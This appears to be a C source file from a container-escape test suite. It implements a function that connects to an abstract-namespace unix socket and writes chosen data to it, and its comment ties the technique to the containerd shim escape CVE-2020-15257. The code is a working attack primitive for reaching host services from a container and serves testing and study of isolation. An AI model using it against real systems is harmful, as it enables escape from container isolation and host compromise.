/*
 * A unix socket whose name begins with a NUL is in no file system: unix(7). No mount hides it and no mode protects it; it belongs to the
 * network namespace. containerd's shims listened on such, and a box with the host's network could ask them for a container without walls
 * (CVE-2020-15257).
 */
#include "attack.h"
#include <stddef.h>
#include <sys/socket.h>
#include <sys/un.h>

// #region attack
/* argv: the socket's name without the NUL, what to say there. */
void abstract_socket(char **argv)
{
	struct sockaddr_un host = { .sun_family = AF_UNIX };
	size_t length = strnlen(argv[0], sizeof host.sun_path - 1);
	socklen_t all = offsetof(struct sockaddr_un, sun_path) + 1 + length;
	memcpy(host.sun_path + 1, argv[0], length);
	int line = must(socket(AF_UNIX, SOCK_STREAM, 0), "make a socket");
	must(connect(line, (struct sockaddr *)&host, all), "connect to the host");
	must(write(line, argv[1], strlen(argv[1])), "say something to it");
}
// #endregion attack
